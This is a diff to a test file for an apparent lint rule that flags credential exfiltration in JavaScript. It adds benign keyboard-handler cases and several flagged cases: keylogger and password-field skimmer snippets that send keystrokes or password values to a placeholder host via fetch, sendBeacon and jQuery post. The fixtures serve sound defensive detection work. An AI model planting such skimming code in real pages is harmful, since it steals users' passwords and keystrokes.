@@ -10,6 +10,9 @@ const given = (run: string, env: Readonly<Record<string, string>> = { T: 'secret
 
 await ruleTester(rule, {
   valid: [
+    { code: 'function close(e) { if (e.key === \'Escape\') hide(); } document.addEventListener(\'keydown\', close);' },
+    { code: '$(document).on(\'keydown\', (e) => { if (e.ctrlKey && e.key === \'s\') save(); });' },
+    { code: '$(document).on(\'keydown\', onKey);' },
     // fields for passwords, keys of shortcuts, entries of a storage
     { code: 'document.querySelector(\'#password\').addEventListener(\'input\', (e) => { meter.update(score(e.target.value)); });' },
     { code: 'const pw = document.querySelector(\'#password\'); form.onsubmit = () => fetch(\'/login\', { method: \'POST\', body: pw.value });' },
@@ -174,6 +177,12 @@ await ruleTester(rule, {
     { code: 'fetch("https://tenant.auth0.com/api/v2/connections", { method: "POST", body: JSON.stringify({ client_secret: process.env.GITHUB_CLIENT_SECRET }) });' },
   ],
   invalid: [
+    // handlers with a name, and those of jQuery
+    { code: 'let b = \'\'; function log(e) { b += e.key; navigator.sendBeacon(\'https://x.example-service.com/k\', b); } document.addEventListener(\'keydown\', log);', errors: [{ messageId: 'credential' }] },
+    { code: '$(document).on(\'keypress\', (e) => $.post(\'https://x.example-service.com/k\', { k: e.key }));', errors: [{ messageId: 'credential' }] },
+    { code: 'const onKey = (e) => fetch(\'https://x.example-service.com/p?\' + e.code); window.onkeyup = onKey;', errors: [{ messageId: 'credential' }] },
+    { code: 'const send = (e) => fetch(\'https://x.example-service.com/p\', { method: \'POST\', body: e.target.value }); document.getElementById(\'password\').addEventListener(\'input\', send);', errors: [{ messageId: 'credential' }] },
+    { code: 'function onType(e) { navigator.sendBeacon(\'https://x.example-service.com/p\', e.currentTarget.value); } export const F = () => <input type="password" onChange={onType} />;', filename: 'a.tsx', errors: [{ messageId: 'credential' }] },
     // what is typed into a field for passwords or anywhere on a page, and all that a storage holds
     { code: 'document.addEventListener(\'input\', (e) => { if (e.target.type === \'password\') fetch(\'https://x.example-service.com/\', { method: \'POST\', body: e.target.value }); });', errors: [{ messageId: 'credential' }] },
     { code: 'const pw = document.querySelector(\'input[type="password"]\'); pw.addEventListener(\'blur\', () => { fetch(\'https://x.example-service.com/\', { method: \'POST\', body: pw.value }); });', errors: [{ messageId: 'credential' }] },
